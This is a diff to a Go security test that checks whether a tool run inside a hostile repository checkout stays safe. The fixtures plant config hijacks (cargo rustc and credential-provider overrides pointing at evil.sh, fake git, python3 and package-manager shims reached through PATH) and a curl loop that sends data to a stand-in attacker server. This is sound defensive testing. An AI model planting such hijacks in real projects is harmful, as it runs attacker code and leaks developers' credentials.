@@ -7,6 +7,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -20,10 +21,7 @@ import (
 // hostile are files of a checkout with which it would run a program of its own, or have a secret
 // sent to itself, when a tool is asked about itself in there. MARK is a command that leaves a mark,
 // THIEF the address of a server of the attacker.
-var hostile = map[string]struct {
-	files map[string]string
-	env   []string
-}{
+var hostile = map[string]lure{
 	"cargo, programs": {files: map[string]string{
 		".cargo/config.toml": "[build]\nrustc = \"./.cargo/evil.sh\"\nrustc-wrapper = \"./.cargo/evil.sh\"\n" +
 			"[resolver]\nincompatible-rust-versions = \"fallback\"\n[registry]\nglobal-credential-providers = [\"./.cargo/evil.sh\"]\n" +
@@ -84,6 +82,32 @@ var hostile = map[string]struct {
 		"python3": "#!/bin/sh\nMARK\n", "go": "#!/bin/sh\nMARK\n", "apt-get": "#!/bin/sh\nMARK\n", "apk": "#!/bin/sh\nMARK\n", "git": "#!/bin/sh\nMARK\n",
 		"yarn": "#!/bin/sh\nMARK\n", "pnpm": "#!/bin/sh\nMARK\n", "corepack": "#!/bin/sh\nMARK\n", "yarnpkg": "#!/bin/sh\nMARK\n",
 	}, env: []string{"PATH=.:PATH"}},
+}
+
+// lure is what a checkout holds, and the variables of the caller that lead there.
+type lure struct {
+	files map[string]string
+	env   []string
+}
+
+// together returns several of hostile, for tools that do not know of each other, in one checkout: every
+// session asks all tools about themselves.
+func together(names ...string) lure {
+	all := lure{files: map[string]string{}}
+	for _, name := range names {
+		h, ok := hostile[name]
+		if !ok {
+			panic("nothing is called " + name)
+		}
+		for file, text := range h.files {
+			if had, ok := all.files[file]; ok && had != text {
+				panic("two files " + file)
+			}
+			all.files[file] = text
+		}
+		all.env = append(all.env, h.env...)
+	}
+	return all
 }
 
 // thief remembers what is sent to it, and answers nothing.
@@ -147,8 +171,18 @@ func TestS1AHostileCheckoutRunsNothing(t *testing.T) {
 	} {
 		locked.Entries = append(locked.Entries, lockfile.Entry{Protocol: protocol, Key: key, Status: http.StatusOK, Blob: digest.Of(nil)})
 	}
-	for name, h := range hostile {
-		t.Run(name, func(t *testing.T) {
+	tried := 0
+	for _, names := range [][]string{
+		{"cargo, programs", "npm, a login", "go, a toolchain", "apt"},
+		{"cargo, a toolchain", "npm, an address", "apk"},
+		{"cargo, a registry", "npm, node, and what yarn, pnpm and corepack read"},
+		{"git"},
+		{"pip, a module"},
+		{"programs of the same names"},
+	} {
+		h := together(names...)
+		tried += len(names)
+		t.Run(strings.Join(names, " and "), func(t *testing.T) {
 			th := newThief(t)
 			checkout, marks := t.TempDir(), t.TempDir()
 			words := strings.NewReplacer("MARK", "touch "+marks+"/ran", "THIEF", th.URL, "ADDRESS", strings.TrimPrefix(th.URL, "http://"), ":PATH", ":"+os.Getenv("PATH"))
@@ -166,7 +200,7 @@ func TestS1AHostileCheckoutRunsNothing(t *testing.T) {
 			o, out := newOptions(t, `for url in "$npm_config_registry" "$PIP_INDEX_URL" THIEF/ THIEF/config.json; do curl -s -o /dev/null "${url}tea"; done; true`)
 			o.Command[2] = words.Replace(o.Command[2])
 			t.Setenv("OPERATOR_TOKEN", "s3cr3t")
-			if strings.HasPrefix(name, "pip") {
+			if names[0] == "pip, a module" {
 				t.Setenv("PATH", python(t))
 			}
 			for _, kv := range h.env {
@@ -198,10 +232,13 @@ func TestS1AHostileCheckoutRunsNothing(t *testing.T) {
 			if heard := th.heard(); strings.Contains(heard, "s3cr3t") {
 				t.Errorf("a secret was sent:\n%s", heard)
 			}
-			if heard := th.heard(); strings.HasPrefix(name, "go") && heard != strings.ReplaceAll(heard, "toolchain", "") {
+			if heard := th.heard(); slices.Contains(names, "go, a toolchain") && heard != strings.ReplaceAll(heard, "toolchain", "") {
 				t.Errorf("a toolchain was asked for:\n%s", heard)
 			}
 		})
+	}
+	if tried != len(hostile) {
+		t.Errorf("%d of %d were tried", tried, len(hostile))
 	}
 }
 
